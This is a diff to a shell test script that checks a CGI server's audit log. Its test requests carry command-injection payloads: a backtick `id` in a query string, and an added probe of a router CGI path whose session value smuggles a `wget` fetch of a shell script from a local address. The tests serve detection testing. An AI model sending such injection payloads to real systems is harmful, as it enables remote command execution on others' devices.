@@ -34,6 +34,10 @@ s=$(http_status "$BASE/cgi-bin/env.sh?cmd=%60id%60")
 check "suspicious_input names the variable and the signature" \
     sh -c "grep '\"event\":\"suspicious_input\"' '$AUDIT' | grep -q '\"variable\":\"QUERY_STRING\",\"signature\":'"
 
+s=$(http_status "$BASE/cgi-bin/mainfunction.cgi/apmcfgupload?session=x;wget\${IFS}http://127.0.0.1:9/w.sh")
+check "a probe of a missing script is 404 and still on record" \
+    sh -c "[ '$s' = 404 ] && grep '\"event\":\"suspicious_input\"' '$AUDIT' | grep -q 'mainfunction.cgi'"
+
 s=$(http_status "$BASE/cgi-bin/sleep.sh?30")
 check "timeout_kill is recorded" audit_has timeout_kill
 
